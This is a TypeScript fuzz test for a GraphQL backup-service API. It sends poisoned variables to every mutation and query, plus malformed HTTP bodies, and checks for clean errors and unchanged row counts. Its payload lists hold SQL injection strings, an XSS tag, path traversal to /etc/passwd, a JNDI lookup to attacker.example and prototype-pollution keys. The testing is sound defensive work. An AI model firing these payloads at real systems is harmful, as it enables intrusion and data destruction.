import { randomUUID } from 'node:crypto';
import path from 'node:path';
import { type Db, seedTenant, type SeededTenant } from '@echelon/db';
import { gqlOk, randomData, startTestStack, type TestStack, uploadBytes } from '@echelon/stack';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

/**
 * A fuzz-style sweep: every mutation of the served schema (found by introspection, so a new one is covered without
 * touching this file) receives many variable sets that are each invalid in at least one place — wrong types, null
 * for required, 1 MB strings, negative or huge numbers, unknown or malformed ids, injection strings, wrong JSON,
 * empty or oversized lists — while every other argument is either valid (so the poison alone decides) or hostile
 * but well-typed (so validation order is exercised). Every answer must be a contract error, no row may change,
 * and the server must still answer afterwards.
 */

const BOOTSTRAP = `bootstrap-${randomUUID()}`;
const MIB = 1024 * 1024;
const CONTRACT_CODES = new Set([
  'UNAUTHENTICATED',
  'FORBIDDEN',
  'NOT_FOUND',
  'BAD_USER_INPUT',
  'CONFLICT',
  'NO_POLICY',
  'INSUFFICIENT_CAPACITY',
  'STORAGE_UNAVAILABLE',
]);
/** 1 MB of text: just under the API's 1 MiB JSON body limit once wrapped in a request. */
const ONE_MB = 'A'.repeat(1_000_000);
const INJECTIONS = ["'; DROP TABLE tenants;--", '<script>alert(1)</script>', '../../etc/passwd', '\u0000'];
/** Well-typed strings that are odd but not necessarily invalid: fillers, never the reason a case must fail. */
const ODD_STRINGS = [
  ...INJECTIONS.slice(0, 3),
  '',
  '   ',
  'Robert"); DELETE FROM api_keys; --',
  `\${jndi:ldap://attacker.example/a}`,
  '{{7*7}}',
  '%s%s%n',
  '\u202eevil\u202c',
  'ünïcödé 名前 🙂',
  '__proto__',
  'x'.repeat(300),
];
/** Every table whose row count must not move; api_keys_revoked catches a revocation, which keeps the count. */
const TABLES = [
  'tenants',
  'identities',
  'api_keys',
  'storage_systems',
  'backup_spaces',
  'policy_templates',
  'policy_template_versions',
  'policy_assignments',
  'uploads',
  'datasets',
  'dataset_versions',
  'backup_jobs',
  'replicas',
  'replica_events',
  'audit_entries',
  'restore_jobs',
] as const;
const COUNT_SQL = `SELECT ${TABLES.map((table) => `(SELECT count(*) FROM ${table})::int AS ${table}`).join(', ')},
  (SELECT count(*) FROM api_keys WHERE revoked_at IS NOT NULL)::int AS api_keys_revoked`;

type Counts = Record<string, number>;

async function rowCounts(db: Db): Promise<Counts> {
  const [row] = await db.$queryRawUnsafe<Counts[]>(COUNT_SQL);
  return row ?? {};
}

const countDiff = (before: Counts, after: Counts): string =>
  Object.keys(after)
    .filter((table) => before[table] !== after[table])
    .map((table) => `${table} ${before[table]}→${after[table]}`)
    .join(', ');

// ── the served schema, by introspection ─────────────────────────────────────────────────────────────────────

interface TypeRef {
  kind: string;
  name: string | null;
  ofType: TypeRef | null;
}
interface InputValue {
  name: string;
  type: TypeRef;
  defaultValue: string | null;
}
interface SchemaType {
  kind: string;
  name: string;
  fields: { name: string; args: InputValue[]; type: TypeRef }[] | null;
  inputFields: InputValue[] | null;
  enumValues: { name: string }[] | null;
}
interface Introspection {
  __schema: { queryType: { name: string }; mutationType: { name: string } | null; types: SchemaType[] };
}

const INTROSPECTION = `
  fragment Ref on __Type { kind name ofType { kind name ofType { kind name ofType { kind name ofType { kind name } } } } }
  query Introspect {
    __schema {
      queryType { name }
      mutationType { name }
      types {
        kind name
        fields { name args { name defaultValue type { ...Ref } } type { ...Ref } }
        inputFields { name defaultValue type { ...Ref } }
        enumValues { name }
      }
    }
  }`;

const unwrapNonNull = (type: TypeRef): TypeRef => (type.kind === 'NON_NULL' && type.ofType ? type.ofType : type);
const namedOf = (type: TypeRef): TypeRef => (type.ofType ? namedOf(type.ofType) : type);
const typeString = (type: TypeRef): string =>
  type.kind === 'NON_NULL'
    ? `${typeString(type.ofType as TypeRef)}!`
    : type.kind === 'LIST'
      ? `[${typeString(type.ofType as TypeRef)}]`
      : (type.name as string);

// ── deterministic randomness ────────────────────────────────────────────────────────────────────────────────

const SEED = 20_261_128;
/** How many of a site's type-level poisons are sent (the rest rotate through other sites). */
const TYPE_LEVEL_PER_SITE = 2;
function mulberry32(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// ── variable generation ─────────────────────────────────────────────────────────────────────────────────────

type Path = (string | number)[];
const OMIT = Symbol('omit');
const ADD_UNKNOWN_FIELD = Symbol('add an unknown field');

interface Poison {
  label: string;
  value: unknown;
  /** Refused by GraphQL's own variable coercion, before any resolver runs: sampled, not all sent. */
  typeLevel?: boolean;
}
const typeLevel = (poisons: Poison[]): Poison[] => poisons.map((poison) => ({ ...poison, typeLevel: true }));
interface Site {
  path: Path;
  type: TypeRef;
  field: string;
  parent: string;
}

/** The ids and names of the fuzzed tenant that make otherwise-valid fillers. */
interface Known {
  tenantId: string;
  adminId: string;
  memberId: string;
  storageIds: string[];
  templateId: string;
  assignmentId: string;
  spareKeyId: string;
  uploadId: string;
  dataDir: string;
}

const deepJson = (depth: number): unknown => {
  let value: unknown = { root: '/tmp' };
  for (let level = 0; level < depth; level++) value = { root: value };
  return value;
};

/** Poisons that follow from what a field means (its documented rules), beyond what its GraphQL type says. */
function fieldPoisons(site: Site, known: Known): Poison[] {
  const identifier = () => [
    ...INJECTIONS.map((value) => ({ label: `injection ${JSON.stringify(value)}`, value })),
    { label: 'empty string', value: '' },
  ];
  const key = `${site.parent}.${site.field}`;
  switch (key) {
    case 'BackupSpaceInput.name':
      return identifier();
    case 'BackupSpaceInput.capacityBytes':
      return [{ label: 'zero capacity', value: 0 }];
    default:
      break;
  }
  switch (site.field) {
    case 'slug':
    case 'externalId':
    case 'datasetKey':
    case 'dataClass':
    case 'group':
      return identifier();
    case 'name':
    case 'displayName':
      return [{ label: 'blank name', value: '   ' }];
    case 'groups':
      return typeof site.path.at(-1) === 'number'
        ? identifier()
        : [{ label: '101 groups', value: Array.from({ length: 101 }, (_, index) => `g${index}`) }];
    case 'roles':
      return typeof site.path.at(-1) === 'number' ? [] : [{ label: 'no roles', value: [] }];
    case 'spaces':
      return typeof site.path.at(-1) === 'number'
        ? []
        : [
            { label: 'no spaces', value: [] },
            {
              label: '101 spaces',
              value: Array.from({ length: 101 }, (_, index) => ({ name: `s${index}`, capacityBytes: MIB })),
            },
          ];
    case 'candidateStorageSystemIds':
      return typeof site.path.at(-1) === 'number'
        ? []
        : [
            { label: '300 unknown candidates', value: Array.from({ length: 300 }, () => randomUUID()) },
            { label: 'duplicate candidates', value: [known.storageIds[1], known.storageIds[1]] },
          ];
    case 'copies':
      return [
        { label: 'negative copies', value: -1 },
        { label: 'zero copies', value: 0 },
        { label: 'copies beyond candidates', value: 1000 },
      ];
    case 'delaySeconds':
      return [
        { label: 'negative delay', value: -1 },
        { label: 'delay of 68 years', value: 2_147_483_647 },
      ];
    case 'minCopies':
      return [
        { label: 'zero minCopies', value: 0 },
        { label: 'negative minCopies', value: -5 },
      ];
    case 'config':
      return [
        { label: 'config is an array', value: [] },
        { label: 'config is a string', value: '/tmp/x' },
        { label: 'config is a number', value: 42 },
        { label: 'config is empty', value: {} },
        { label: 'root is a number', value: { root: 42 } },
        { label: 'relative root', value: { root: 'relative/path' } },
        { label: 'traversal root', value: { root: '../../etc/passwd' } },
        { label: 'root with ..', value: { root: '/tmp/../etc' } },
        { label: 'filesystem root', value: { root: '/' } },
        { label: 'root with NUL', value: { root: '/tmp/a\u0000b' } },
        { label: 'root of 5000 characters', value: { root: `/${'a'.repeat(5000)}` } },
        { label: 'extra config key', value: { root: path.join(known.dataDir, 'storage', 'x'), sneaky: true } },
        { label: '__proto__ key', value: JSON.parse('{"__proto__":{"root":"/tmp/evil"}}') },
        { label: '2000 levels deep', value: deepJson(2000) },
      ];
    default:
      return [];
  }
}

function scalarPoisons(name: string): Poison[] {
  switch (name) {
    case 'String':
      return [
        ...typeLevel([
          { label: 'number for String', value: 42 },
          { label: 'boolean for String', value: true },
          { label: 'object for String', value: { a: 1 } },
          { label: 'list of two for String', value: ['a', 'b'] },
        ]),
        { label: '1 MB string', value: ONE_MB },
        { label: 'NUL byte', value: 'a\u0000b' },
      ];
    case 'ID':
      return [
        ...typeLevel([
          { label: 'boolean for ID', value: true },
          { label: 'object for ID', value: { id: 1 } },
          { label: 'float for ID', value: 1.5 },
          { label: 'list of two for ID', value: ['a', 'b'] },
        ]),
        { label: 'unknown UUID', value: randomUUID() },
        { label: 'numeric id', value: 42 },
        { label: 'empty id', value: '' },
        { label: '1 MB id', value: ONE_MB },
        ...INJECTIONS.map((value) => ({ label: `injection id ${JSON.stringify(value)}`, value })),
      ];
    case 'Int':
      return typeLevel([
        { label: 'float for Int', value: 1.5 },
        { label: 'string for Int', value: '3' },
        { label: '2^31', value: 2 ** 31 },
        { label: '-2^31-1', value: -(2 ** 31) - 1 },
        { label: 'boolean for Int', value: true },
        { label: 'object for Int', value: {} },
        { label: '1e300', value: 1e300 },
      ]);
    case 'Float':
      return typeLevel([
        { label: 'string for Float', value: 'x' },
        { label: 'boolean for Float', value: true },
      ]);
    case 'Boolean':
      return typeLevel([
        { label: 'string for Boolean', value: 'true' },
        { label: 'number for Boolean', value: 1 },
        { label: 'object for Boolean', value: {} },
      ]);
    case 'Bytes':
      return typeLevel([
        { label: 'negative bytes', value: -1 },
        { label: 'very negative bytes', value: -(2 ** 60) },
        { label: 'fractional bytes', value: 1.5 },
        { label: '2^53 bytes', value: 2 ** 53 },
        { label: '1e21 bytes', value: 1e21 },
        { label: 'string for Bytes', value: '1024' },
        { label: 'boolean for Bytes', value: true },
        { label: 'object for Bytes', value: {} },
      ]);
    case 'DateTime':
      return typeLevel([
        { label: 'not a date', value: 'yesterday-ish' },
        { label: 'boolean for DateTime', value: true },
      ]);
    case 'JSON':
      return [];
    default:
      return typeLevel([{ label: `object for ${name}`, value: { unexpected: true } }]);
  }
}

class VariableFactory {
  private counter = 0;
  constructor(
    private readonly types: Map<string, SchemaType>,
    private readonly known: Known,
    private readonly random: () => number,
  ) {}

  private next = () => ++this.counter;
  private pick = <T>(items: readonly T[]): T => items[Math.floor(this.random() * items.length)] as T;

  /** Valid values by field name, so that a poison elsewhere is the only thing wrong with a request. */
  private validFor(field: string, op: string): (() => unknown) | undefined {
    const k = this.known;
    const table: Record<string, () => unknown> = {
      name: () => `fuzz ${this.next()}`,
      displayName: () => 'Fuzz Tester',
      externalId: () => `fuzz-${this.next()}`,
      slug: () => `fuzz-${this.next()}`,
      datasetKey: () => 'fuzz/data',
      dataClass: () => 'gold',
      idempotencyKey: () => `idem-${this.next()}`,
      group: () => 'fuzzers',
      path: () => '/fuzz/source',
      copies: () => 1,
      delaySeconds: () => 0,
      minCopies: () => 1,
      capacityBytes: () => MIB,
      sizeBytes: () => MIB,
      kind: () => 'FILESYSTEM',
      ordering: () => 'CAPACITY',
      config: () => ({ root: path.join(k.dataDir, 'storage', 'fuzz', String(this.next())) }),
      identityId: () => k.memberId,
      templateId: () => k.templateId,
      primaryStorageSystemId: () => k.storageIds[0],
      storageSystemId: () => k.storageIds[0],
      uploadId: () => k.uploadId,
      tenantId: () => k.tenantId,
      tenantDefault: () => true,
      'groups[]': () => 'fuzzers',
      'roles[]': () => 'MEMBER',
      'candidateStorageSystemIds[]': () => k.storageIds[1],
      'updatePolicyTemplate.id': () => k.templateId,
      'revokeApiKey.id': () => k.spareKeyId,
      'unassignPolicy.id': () => k.assignmentId,
    };
    return table[`${op}.${field}`] ?? table[field];
  }

  /** Optional inputs a valid request includes (the rest are left out). */
  private static readonly VALID_OPTIONAL = new Set([
    'AssignPolicyInput.identityId',
    'RequestBackupInput.uploadId',
    'CreateIdentityInput.groups',
    'createIdentity.tenantId',
  ]);

  private oddScalar(name: string, field: string, op: string): unknown {
    const valid = this.validFor(field, op);
    if (valid !== undefined && this.random() < 0.3) return valid();
    const k = this.known;
    switch (name) {
      case 'String':
        return this.pick(ODD_STRINGS);
      case 'ID':
        return this.pick([...ODD_STRINGS, k.adminId, k.memberId, k.templateId, k.uploadId, ...k.storageIds]);
      case 'Int':
        return this.pick([0, -1, 1, 2, 3, 2_147_483_647, -2_147_483_648]);
      case 'Bytes':
        return this.pick([0, 1, 2 ** 53 - 1]);
      case 'Boolean':
        return this.random() < 0.5;
      case 'JSON':
        return this.pick([
          null,
          [],
          'text',
          { root: 42 },
          { root: 'relative' },
          deepJson(500),
          { root: path.join(k.dataDir, 'storage', 'odd') },
        ]);
      case 'DateTime':
        return new Date().toISOString();
      default:
        return 'odd';
    }
  }

  /**
   * A value of `type`: valid where the field is known (mode 'valid') or hostile but well-typed (mode 'odd').
   * Containers along `keep` are always present, so that a poison can be placed at its end.
   */
  fill(type: TypeRef, field: string, op: string, mode: 'valid' | 'odd', keep: Path | undefined): unknown {
    const inner = unwrapNonNull(type);
    if (inner.kind === 'LIST') {
      const element = inner.ofType as TypeRef;
      const elementValue = (rest: Path | undefined) => this.fill(element, `${field}[]`, op, mode, rest);
      if (keep !== undefined && keep.length > 0) return [elementValue(keep.slice(1))];
      if (mode === 'valid') {
        const valid = this.validFor(field, op);
        if (field === 'candidateStorageSystemIds') return [];
        if (valid !== undefined) return valid();
        return [elementValue(undefined)];
      }
      const shape = this.random();
      if (shape < 0.25) return [];
      if (shape < 0.4) return Array.from({ length: 300 }, () => elementValue(undefined));
      return Array.from({ length: 1 + Math.floor(this.random() * 3) }, () => elementValue(undefined));
    }
    if (inner.kind === 'INPUT_OBJECT') {
      const definition = this.types.get(inner.name as string);
      const value: Record<string, unknown> = {};
      for (const child of definition?.inputFields ?? []) {
        const onPath = keep !== undefined && keep[0] === child.name;
        const required = child.type.kind === 'NON_NULL' && child.defaultValue === null;
        const include =
          required ||
          onPath ||
          (mode === 'valid' ? VariableFactory.VALID_OPTIONAL.has(`${inner.name}.${child.name}`) : this.random() < 0.5);
        if (include)
          value[child.name] = this.fill(child.type, child.name, op, mode, onPath ? keep?.slice(1) : undefined);
      }
      return value;
    }
    if (inner.kind === 'ENUM') {
      const values = (this.types.get(inner.name as string)?.enumValues ?? []).map((value) => value.name);
      const valid = this.validFor(field, op);
      if (mode === 'valid') return valid ? valid() : values[0];
      return this.pick(values);
    }
    const scalar = inner.name as string;
    if (mode === 'odd') return this.oddScalar(scalar, field, op);
    const valid = this.validFor(field, op);
    if (valid !== undefined) return valid();
    switch (scalar) {
      case 'ID':
        return randomUUID();
      case 'Int':
        return 1;
      case 'Bytes':
        return MIB;
      case 'Boolean':
        return false;
      case 'JSON':
        return {};
      case 'DateTime':
        return new Date().toISOString();
      default:
        return 'fuzz';
    }
  }

  /** Every place in an operation's arguments where a poison can go. */
  sites(args: InputValue[], op: string): Site[] {
    const sites: Site[] = [];
    const walk = (type: TypeRef, at: Path, field: string, parent: string, depth: number) => {
      sites.push({ path: at, type, field, parent });
      if (depth > 5) return;
      const inner = unwrapNonNull(type);
      if (inner.kind === 'LIST') walk(inner.ofType as TypeRef, [...at, 0], field, parent, depth + 1);
      if (inner.kind === 'INPUT_OBJECT') {
        for (const child of this.types.get(inner.name as string)?.inputFields ?? []) {
          walk(child.type, [...at, child.name], child.name, inner.name as string, depth + 1);
        }
      }
    };
    for (const arg of args) walk(arg.type, [arg.name], arg.name, op, 0);
    return sites;
  }

  poisons(site: Site): Poison[] {
    const poisons: Poison[] = [];
    const isListElement = typeof site.path.at(-1) === 'number';
    if (site.type.kind === 'NON_NULL') {
      poisons.push({
        label: isListElement ? 'null in a list of non-null' : 'null for required',
        value: null,
        typeLevel: true,
      });
      if (!isListElement) poisons.push({ label: 'required value missing', value: OMIT, typeLevel: true });
    }
    const inner = unwrapNonNull(site.type);
    if (inner.kind === 'LIST') {
      const element = inner.ofType as TypeRef;
      if (element.kind === 'NON_NULL') poisons.push({ label: 'list holding null', value: [null], typeLevel: true });
      if (unwrapNonNull(element).kind !== 'LIST') {
        poisons.push({
          label: 'nested list',
          typeLevel: true,
          value: [[this.fill(element, site.field, site.parent, 'valid', undefined)]],
        });
      }
    } else if (inner.kind === 'INPUT_OBJECT') {
      poisons.push(
        ...typeLevel([
          { label: 'string for an input object', value: 'not an object' },
          { label: 'list for an input object', value: [{}] },
          { label: 'unknown input field', value: ADD_UNKNOWN_FIELD },
        ]),
      );
    } else if (inner.kind === 'ENUM') {
      const first = this.types.get(inner.name as string)?.enumValues?.[0]?.name ?? 'X';
      poisons.push(
        ...typeLevel([
          { label: 'unknown enum value', value: 'NOT_A_VALUE' },
          { label: 'lower-case enum value', value: first.toLowerCase() },
          { label: 'number for enum', value: 0 },
          { label: 'injection for enum', value: INJECTIONS[0] },
        ]),
      );
    } else {
      poisons.push(...scalarPoisons(inner.name as string));
    }
    poisons.push(...fieldPoisons(site, this.known));
    return poisons;
  }

  /** Variables for one operation with `poison` placed at `site`, everything else filled in `mode`. */
  build(args: InputValue[], op: string, site: Site, poison: Poison, mode: 'valid' | 'odd'): Record<string, unknown> {
    const variables: Record<string, unknown> = {};
    for (const arg of args) {
      const onPath = site.path[0] === arg.name;
      const required = arg.type.kind === 'NON_NULL' && arg.defaultValue === null;
      const include =
        required ||
        onPath ||
        (mode === 'valid' ? VariableFactory.VALID_OPTIONAL.has(`${op}.${arg.name}`) : this.random() < 0.5);
      if (include)
        variables[arg.name] = this.fill(arg.type, arg.name, op, mode, onPath ? site.path.slice(1) : undefined);
    }
    let container: Record<string | number, unknown> = variables;
    for (const segment of site.path.slice(0, -1)) container = container[segment] as Record<string | number, unknown>;
    const last = site.path.at(-1) as string | number;
    if (poison.value === OMIT) delete container[last];
    else if (poison.value === ADD_UNKNOWN_FIELD) {
      container[last] = { ...(container[last] as object), __unknownField: "'; DROP TABLE tenants;--" };
    } else container[last] = poison.value;
    return variables;
  }
}

// ── sending and judging ─────────────────────────────────────────────────────────────────────────────────────

type Caller = 'admin' | 'member' | 'anonymous' | 'forged' | 'platform';

interface Answer {
  status: number;
  text: string;
  body: { data?: Record<string, unknown> | null; errors?: { message: string; extensions?: { code?: string } }[] };
}

async function post(apiUrl: string, secret: string | undefined, payload: unknown): Promise<Answer> {
  const response = await fetch(`${apiUrl}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(secret ? { authorization: `Bearer ${secret}` } : {}) },
    body: JSON.stringify(payload),
  });
  const text = await response.text();
  let body: Answer['body'] = {};
  try {
    body = JSON.parse(text) as Answer['body'];
  } catch {
    body = {};
  }
  return { status: response.status, text, body };
}

/** Variables as a short, readable line for a failure report. */
const describeVariables = (variables: unknown): string =>
  JSON.stringify(variables, (_key, value: unknown) => {
    if (typeof value === 'string' && value.length > 60) return `<${value.length} chars>`;
    if (Array.isArray(value) && value.length > 4) return `<list of ${value.length}>`;
    return value;
  }).slice(0, 400);

/** Why an answer breaks the contract, or undefined when it is a clean refusal. */
function judge(answer: Answer, field: string, caller: Caller, mustFail: boolean): string | undefined {
  const errors = answer.body.errors;
  if (errors === undefined && answer.body.data === undefined) {
    return `HTTP ${answer.status} without a GraphQL body: ${answer.text.slice(0, 200)}`;
  }
  const foreign = (errors ?? []).filter((error) => !CONTRACT_CODES.has(error.extensions?.code ?? ''));
  if (foreign.length > 0) {
    return foreign.map((error) => `${error.extensions?.code ?? 'no code'} "${error.message.slice(0, 160)}"`).join('; ');
  }
  if (!mustFail) return undefined;
  if (errors === undefined || errors.length === 0) {
    return `accepted (HTTP ${answer.status}): ${JSON.stringify(answer.body.data).slice(0, 200)}`;
  }
  if (answer.body.data?.[field] != null) return `data returned alongside errors: ${JSON.stringify(answer.body.data)}`;
  const code = errors[0]?.extensions?.code ?? '';
  if ((caller === 'anonymous' || caller === 'forged') && code !== 'UNAUTHENTICATED' && code !== 'BAD_USER_INPUT') {
    return `an unauthenticated caller got ${code} instead of UNAUTHENTICATED`;
  }
  if (answer.status >= 500) return `HTTP ${answer.status} for a refusal (${code})`;
  return undefined;
}

const hasStackTrace = (text: string) => /\n\s+at\s|node_modules|\/work\/|\.ts:\d+/.test(text);

describe('hostile input to every operation (real stack)', () => {
  let env: TestStack;
  let seeded: SeededTenant;
  let known: Known;
  let secrets: Record<Caller, string | undefined>;
  let baseline: Counts;
  let schema: Introspection['__schema'];

  beforeAll(async () => {
    env = await startTestStack({ env: { ECHELON_BOOTSTRAP_TOKEN: BOOTSTRAP } });
    seeded = await seedTenant(env.db, {
      slug: `fuzz-${Date.now()}`,
      name: 'Fuzz target',
      storageRoot: path.join(env.dataDir, 'storage'),
      storage: [
        { name: 'primary', spaces: [{ name: 'main', capacityBytes: 64 * MIB }] },
        { name: 'secondary', spaces: [{ name: 'main', capacityBytes: 64 * MIB }] },
      ],
      copies: 2,
      delaySeconds: 0,
      ordering: 'CAPACITY',
    });
    const admin = seeded.apiKey;
    const { createIdentity: member } = await gqlOk<{ createIdentity: { id: string } }>(
      env.apiUrl,
      admin,
      'mutation($input: CreateIdentityInput!) { createIdentity(input: $input) { id } }',
      { input: { externalId: 'member', displayName: 'Member', roles: ['MEMBER'] } },
    );
    const key = 'mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { secret apiKey { id } } }';
    const { createApiKey: memberKey } = await gqlOk<{ createApiKey: { secret: string } }>(env.apiUrl, admin, key, {
      input: { identityId: member.id, name: 'member key' },
    });
    const { createApiKey: spareKey } = await gqlOk<{ createApiKey: { apiKey: { id: string } } }>(
      env.apiUrl,
      admin,
      key,
      { input: { identityId: member.id, name: 'spare key' } },
    );
    const assignment = await env.db.policyAssignment.findFirstOrThrow({ where: { tenantId: seeded.tenant.id } });
    known = {
      tenantId: seeded.tenant.id,
      adminId: seeded.adminIdentityId,
      memberId: member.id,
      storageIds: seeded.storageSystems.map((system) => system.id),
      templateId: seeded.template.templateId,
      assignmentId: assignment.id,
      spareKeyId: spareKey.apiKey.id,
      // Staged and complete but never backed up: a request naming it would succeed but for the poison.
      uploadId: await uploadBytes(env.apiUrl, admin, randomData(4096)),
      dataDir: env.dataDir,
    };
    secrets = { admin, member: memberKey.secret, anonymous: undefined, forged: INJECTIONS[0], platform: BOOTSTRAP };
    schema = (await gqlOk<Introspection>(env.apiUrl, admin, INTROSPECTION)).__schema;
    baseline = await rowCounts(env.db);
  }, 240_000);

  afterAll(async () => {
    await env?.stop();
  }, 60_000);

  it('answers every poisoned variable set of every mutation with a contract error and writes nothing', async () => {
    const started = Date.now();
    const types = new Map(schema.types.map((type) => [type.name, type]));
    const mutationType = types.get(schema.mutationType?.name ?? 'Mutation');
    const mutations = mutationType?.fields ?? [];
    expect(mutations.length).toBeGreaterThanOrEqual(13);
    const random = mulberry32(SEED);
    const factory = new VariableFactory(types, known, random);
    const problems: string[] = [];
    let sent = 0;
    let before = await rowCounts(env.db);
    let rotation = 0;

    for (const mutation of mutations) {
      const selection = namedOf(mutation.type).kind === 'OBJECT' ? ' { __typename }' : '';
      const declarations = mutation.args.map((arg) => `$${arg.name}: ${typeString(arg.type)}`).join(', ');
      const call = mutation.args.map((arg) => `${arg.name}: $${arg.name}`).join(', ');
      const document = `mutation Fuzz${declarations ? `(${declarations})` : ''} { ${mutation.name}${call ? `(${call})` : ''}${selection} }`;

      const cases: { caller: Caller; variables: Record<string, unknown>; label: string; query?: string }[] = [];
      // Poisons that reach the resolvers are all sent; those GraphQL refuses by type are sampled, two per site,
      // rotating so that every kind is still sent somewhere.
      const pairs = factory.sites(mutation.args, mutation.name).flatMap((site) => {
        const poisons = factory.poisons(site);
        const byType = poisons.filter((poison) => poison.typeLevel);
        const sampled =
          byType.length <= TYPE_LEVEL_PER_SITE
            ? byType
            : Array.from({ length: TYPE_LEVEL_PER_SITE }, () => byType[rotation++ % byType.length] as Poison);
        return [...poisons.filter((poison) => !poison.typeLevel), ...new Set(sampled)].map((poison) => ({
          site,
          poison,
        }));
      });
      pairs.forEach(({ site, poison }, index) => {
        const where = site.path.join('.');
        const label = `${where}: ${poison.label}`;
        // Every poison with valid surroundings, so that it alone must be the reason for the refusal…
        cases.push({
          caller: 'admin',
          label,
          variables: factory.build(mutation.args, mutation.name, site, poison, 'valid'),
        });
        // …and a share of them again with hostile (but well-typed) surroundings and other callers.
        if (index % 4 === 0) {
          cases.push({
            caller: 'admin',
            label: `${label} (odd fillers)`,
            variables: factory.build(mutation.args, mutation.name, site, poison, 'odd'),
          });
        }
        const others: Caller[] = ['member', 'anonymous', 'forged', 'platform'];
        if (index % 6 === 0) {
          const caller = others[(index / 6) % others.length] as Caller;
          cases.push({ caller, label, variables: factory.build(mutation.args, mutation.name, site, poison, 'valid') });
        }
      });
      // Malformed documents: arguments left out, an unknown argument, an unknown field, a wrong literal.
      const anyArg = mutation.args[0]?.name ?? 'x';
      cases.push(
        {
          caller: 'admin',
          label: 'no arguments at all',
          variables: {},
          query: `mutation { ${mutation.name}${selection} }`,
        },
        {
          caller: 'admin',
          label: 'unknown argument',
          variables: {},
          query: `mutation { ${mutation.name}(${call ? `${anyArg}: 1, ` : ''}bogus: "x")${selection} }`,
        },
        {
          caller: 'admin',
          label: 'unknown selected field',
          variables: {},
          query: `mutation { ${mutation.name}${call ? `(${anyArg}: null)` : ''} { __typename doesNotExist } }`,
        },
        {
          caller: 'admin',
          label: 'injection as a literal',
          variables: {},
          query: `mutation { ${mutation.name}(${anyArg}: "'; DROP TABLE tenants;--")${selection} }`,
        },
      );

      for (const entry of cases) {
        const answer = await post(env.apiUrl, secrets[entry.caller], {
          query: entry.query ?? document,
          variables: entry.variables,
        });
        sent++;
        const problem = judge(answer, mutation.name, entry.caller, true);
        const after = await rowCounts(env.db);
        const changed = countDiff(before, after);
        if (problem !== undefined || changed !== '') {
          problems.push(
            `${mutation.name} as ${entry.caller} [${entry.label}] ${describeVariables(entry.variables)} → ${[
              problem,
              changed && `rows changed: ${changed}`,
            ]
              .filter(Boolean)
              .join('; ')}`,
          );
        }
        before = after;
      }
    }
    console.log(`hostile input: ${sent} mutation requests in ${Date.now() - started} ms, ${problems.length} problems`);
    expect.soft(problems).toEqual([]);
    expect(countDiff(baseline, await rowCounts(env.db))).toBe('');
  }, 170_000);

  it('answers hostile arguments to queries with null, data or a contract error — never anything else', async () => {
    const started = Date.now();
    const types = new Map(schema.types.map((type) => [type.name, type]));
    const queries = (types.get(schema.queryType.name)?.fields ?? []).filter((field) => field.args.length > 0);
    expect(queries.map((query) => query.name)).toEqual(expect.arrayContaining(['backupJob', 'previewScheme']));
    const factory = new VariableFactory(types, known, mulberry32(SEED + 1));
    const problems: string[] = [];
    const cursor = (text: string) => Buffer.from(text).toString('base64url');
    const extra: Record<string, Poison[]> = {
      after: [
        { label: 'garbage cursor', value: 'not a cursor' },
        { label: 'cursor with an injected id', value: cursor(`2020-01-01T00:00:00.000Z|${INJECTIONS[0]}`) },
        { label: 'cursor with a NUL id', value: cursor('2020-01-01T00:00:00.000Z|\u0000') },
        { label: 'cursor with a bad date', value: cursor(`yesterday|${randomUUID()}`) },
      ],
      first: [
        { label: 'zero first', value: 0 },
        { label: 'negative first', value: -1 },
        { label: 'huge first', value: 2_000_000_000 },
      ],
      version: [
        { label: 'zero version', value: 0 },
        { label: 'negative version', value: -1 },
      ],
      sizeBytes: [{ label: 'largest size', value: 2 ** 53 - 1 }],
    };
    let sent = 0;
    for (const query of queries) {
      const selection = namedOf(query.type).kind === 'OBJECT' ? ' { __typename }' : '';
      const declarations = query.args.map((arg) => `$${arg.name}: ${typeString(arg.type)}`).join(', ');
      const call = query.args.map((arg) => `${arg.name}: $${arg.name}`).join(', ');
      const document = `query Fuzz(${declarations}) { ${query.name}(${call})${selection} }`;
      for (const site of factory.sites(query.args, query.name)) {
        for (const poison of [...factory.poisons(site), ...(extra[site.field] ?? [])]) {
          for (const caller of ['admin', 'member'] as const) {
            if (caller === 'member' && sent % 5 !== 0) continue;
            const variables = factory.build(query.args, query.name, site, poison, 'valid');
            const answer = await post(env.apiUrl, secrets[caller], { query: document, variables });
            sent++;
            const problem = judge(answer, query.name, caller, false);
            if (problem !== undefined) {
              problems.push(
                `${query.name} as ${caller} [${site.path.join('.')}: ${poison.label}] ${describeVariables(variables)} → ${problem}`,
              );
            }
          }
        }
      }
    }
    console.log(`hostile input: ${sent} query requests in ${Date.now() - started} ms, ${problems.length} problems`);
    expect.soft(problems).toEqual([]);
    expect(countDiff(baseline, await rowCounts(env.db))).toBe('');
  }, 120_000);

  it('answers malformed HTTP requests to /graphql with clean 4xx', async () => {
    const url = `${env.apiUrl}/graphql`;
    const auth = { authorization: `Bearer ${secrets.admin}` };
    const json = { 'content-type': 'application/json', ...auth };
    const attempts: { label: string; init: RequestInit; status?: number[]; url?: string }[] = [
      { label: 'not JSON', init: { method: 'POST', headers: json, body: 'this is not json' } },
      {
        label: 'truncated JSON',
        init: { method: 'POST', headers: json, body: '{"query": "mutation { createTenant(input: {slug: \\"x\\"' },
      },
      { label: 'JSON null', init: { method: 'POST', headers: json, body: 'null' } },
      { label: 'JSON string', init: { method: 'POST', headers: json, body: '"{ viewer { identity { id } } }"' } },
      { label: 'empty object', init: { method: 'POST', headers: json, body: '{}' } },
      { label: 'query is a number', init: { method: 'POST', headers: json, body: '{"query": 42}' } },
      {
        label: 'variables is a string',
        init: { method: 'POST', headers: json, body: '{"query":"{ viewer { identity { id } } }","variables":"x"}' },
      },
      {
        label: 'operationName is a number',
        init: {
          method: 'POST',
          headers: json,
          body: '{"query":"{ viewer { identity { id } } }","operationName":7}',
        },
      },
      {
        label: 'batched requests',
        init: {
          method: 'POST',
          headers: json,
          body: JSON.stringify([{ query: '{ viewer { identity { id } } }' }, { query: '{ tenants { id } }' }]),
        },
      },
      {
        label: 'invalid query syntax',
